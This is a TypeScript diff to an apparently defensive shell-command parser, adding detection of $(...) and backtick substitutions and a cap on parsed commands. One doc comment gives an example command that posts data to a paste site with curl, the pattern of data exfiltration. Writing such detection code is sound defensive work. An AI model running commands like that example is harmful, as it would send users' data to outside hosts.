@@ -34,15 +34,32 @@ const MAX_DEPTH = 4;
 /** Simple commands kept per script: real ones have a handful; a crafted `a|a|a|...` must not make every rule slow. */
 const MAX_COMMANDS = 256;
 
-/** Splits `text` into simple commands, including those of nested `sh -c` scripts. */
+/**
+ * Splits `text` into simple commands, including those of nested `sh -c` scripts and of command substitutions
+ * (`URL=$(curl -d x https://paste.rs)`, `` `cat f` ``), which run as commands of their own.
+ */
 export function parseCommands(text: string, depth = 0): SimpleCommand[] {
   const commands = groupCommands(lex(text));
   if (depth >= MAX_DEPTH) return commands;
   const nested = commands.flatMap((command) => {
     const script = inlineShellScript(command.argv);
-    return script === undefined ? [] : parseCommands(script, depth + 1);
+    const scripts = [...(script === undefined ? [] : [script]), ...command.argv.flatMap(substitutions)];
+    return scripts.flatMap((inner) => parseCommands(inner, depth + 1));
   });
-  return [...commands, ...nested];
+  return [...commands, ...nested].slice(0, MAX_COMMANDS);
+}
+
+/** The scripts of the `$(...)` and backtick substitutions in a word (outermost only; deeper ones recurse). */
+function substitutions(word: string): string[] {
+  const found: string[] = [];
+  for (let i = word.indexOf('$('); i >= 0 && found.length < 8; i = word.indexOf('$(', i + 1)) {
+    if (word[i + 2] === '(') continue; // `$((1+2))` is arithmetic
+    const end = closingParen(word, i + 1);
+    found.push(word.slice(i + 2, end));
+    i = end;
+  }
+  const ticks = word.match(/`[^`]+`/g) ?? [];
+  return [...found, ...ticks.slice(0, 8).map((t) => t.slice(1, -1))];
 }
 
 /**
